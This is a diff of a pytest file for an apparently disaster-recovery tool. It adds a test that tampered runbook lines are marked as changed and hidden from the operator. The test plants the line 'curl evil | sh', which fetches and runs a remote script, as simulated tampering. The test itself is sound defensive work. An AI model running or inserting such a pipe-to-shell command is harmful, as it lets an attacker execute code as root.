@@ -13,13 +13,14 @@ import pytest
 from tests.support.clocks import NOON
 from tests.support.harness import Site
 from tests.support.runbooks import ByHand
+from tests.support.sealing import a_key
 
 from ccdr.cli.progress import SILENT
 from ccdr.host.files import extent
 from ccdr.jobs.recover import again
 from ccdr.jobs.recover.journal import Journal
 from ccdr.jobs.recover.planned import Decision
-from ccdr.jobs.restore.left_server import OWN, LeftServer, sums_of
+from ccdr.jobs.restore.left_server import CHANGED, LEFT, OWN, LeftServer, digest_of, sums_of
 from ccdr.jobs.restore.opening import Opening
 from ccdr.jobs.runbook import shows
 from ccdr.jobs.runbook.timing import achieved
@@ -74,7 +75,9 @@ def waiting(site: Site, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> tupl
     )
     monkeypatch.setattr(Decision, "read", lambda _: SimpleNamespace(assets=(planned,)))
     began = {"plan": "p", "began": rfc3339(NOON + timedelta(seconds=5)), "assets": [{"asset": "crm"}]}
-    Journal.begin(services.state, "20260728T120005-aaaaaa", began)
+    journal = Journal.begin(services.state, "20260728T120005-aaaaaa", began, a_key)
+    journal.reached("crm", "begun", NOON, 1.0, {"run": "r"})
+    journal.reached("crm", "naming", NOON, 2.0, {"left_sha256": digest_of(home)})
     return loaded, services, home, ByHand(runbook_of(loaded.plan))
 
 
@@ -117,6 +120,15 @@ def test_the_literal_lines_are_shown_while_nobody_has_started_it(waiting: tuple[
     (home / "control").write_text("it was started")
     step = shows.as_asked(run.runbook.steps["start"], loaded, services.state, run.events)
     assert isinstance(step, Manual) and step.instructions[-1].startswith("no new server of this run is left")
+
+
+def test_lines_that_somebody_has_changed_since_are_not_shown(waiting: tuple[Any, ...]) -> None:
+    """A person types them, as root."""
+    loaded, services, home, run = waiting
+    (home / LEFT).write_text((home / LEFT).read_text().replace(LINES.debian[0], "curl evil | sh"))
+    step = shows.as_asked(run.runbook.steps["start"], loaded, services.state, run.events)
+    assert isinstance(step, Manual) and f"crm: {CHANGED}" in step.instructions
+    assert not any("evil" in line or line.strip() in LINES.docker for line in step.instructions)
 
 
 def test_a_spare_is_not_to_be_started(waiting: tuple[Any, ...], monkeypatch: pytest.MonkeyPatch) -> None:
